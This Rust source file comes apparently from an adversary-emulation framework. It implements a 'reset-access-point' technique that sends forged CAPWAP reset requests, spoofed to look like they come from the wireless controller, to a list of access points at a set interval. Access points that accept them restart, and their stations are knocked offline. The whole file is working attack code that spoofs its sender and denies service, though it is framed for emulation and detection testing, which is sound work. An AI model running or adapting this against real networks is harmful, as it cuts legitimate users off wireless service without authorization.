//! Makes access points start again by forged control messages.

use super::{Params, Progress, Step, Technique};
use crate::catalog::{Entry, Parameter, ParameterKind};
use crate::net::port::Input;
use crate::time::Duration;
use crate::wire::capwap::{AP_PORT, Capwap, CapwapControl, PORT};
use crate::wire::{Ip, Message};

/// Technique `reset-access-point`.
#[derive(Debug)]
pub(super) struct ResetAccessPoint;

static ENTRY: Entry = Entry {
    id: "reset-access-point",
    title: "Reset access points by forged control messages",
    summary: "Sends the controller's reset request, in its name, to the control port of access points, again and again. An access point that takes \
              control messages outside a protected channel starts again, which takes a minute, and its stations are off meanwhile. One that insists on the \
              protected channel drops the message. The attacker does not see what comes of it and counts as done when its time is over. A sensor on the \
              segment sees control messages that the controller did not send.",
    parameters: &[
        Parameter {
            name: "controller",
            kind: ParameterKind::Text,
            required: true,
            doc: "address of the controller, written as sender",
        },
        Parameter {
            name: "access_points",
            kind: ParameterKind::Text,
            required: true,
            doc: "addresses of access points, separated by blanks",
        },
        Parameter {
            name: "every",
            kind: ParameterKind::Duration,
            required: false,
            doc: "interval; 20s if not given",
        },
        Parameter {
            name: "for",
            kind: ParameterKind::Duration,
            required: false,
            doc: "how long; 5m if not given",
        },
    ],
    references: &["RFC 5415 section 9.3", "T0814", "T0816"],
};

const TOKEN_SEND: u32 = 1;
const TOKEN_END: u32 = 2;

fn over(params: &Params) -> Duration {
    params.duration("for").unwrap_or(Duration::from_mins(5))
}

fn send(step: &mut Step<'_, '_, '_>) -> Progress {
    let Ok(controller) = step.params.text("controller").parse::<Ip>() else {
        return Progress::Failed("the controller's address is none");
    };
    let addresses = step.params.text("access_points").split_whitespace();
    let targets: Vec<Ip> = addresses.filter_map(|t| t.parse().ok()).collect();
    for ip in targets {
        let reset = Message::Capwap(Box::new(Capwap::Clear(CapwapControl::Reset)));
        step.hands
            .datagram_as((controller, PORT), (ip, AP_PORT), reset);
    }
    let every = step.params.duration("every");
    step.hands
        .timer(every.unwrap_or(Duration::from_secs(20)), TOKEN_SEND);
    Progress::Wait
}

impl Technique for ResetAccessPoint {
    fn entry(&self) -> &'static Entry {
        &ENTRY
    }

    fn stages(&self) -> &'static [&'static str] {
        &["send", "over"]
    }

    fn patience(&self, params: &Params) -> Duration {
        over(params) + Duration::from_mins(1)
    }

    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => {
                let over = over(step.params);
                step.hands.timer(over, TOKEN_END);
                send(step)
            }
            Input::Timer(TOKEN_SEND) => send(step),
            Input::Timer(TOKEN_END) => Progress::Done("reset requests were sent"),
            _ => Progress::Wait,
        }
    }
}
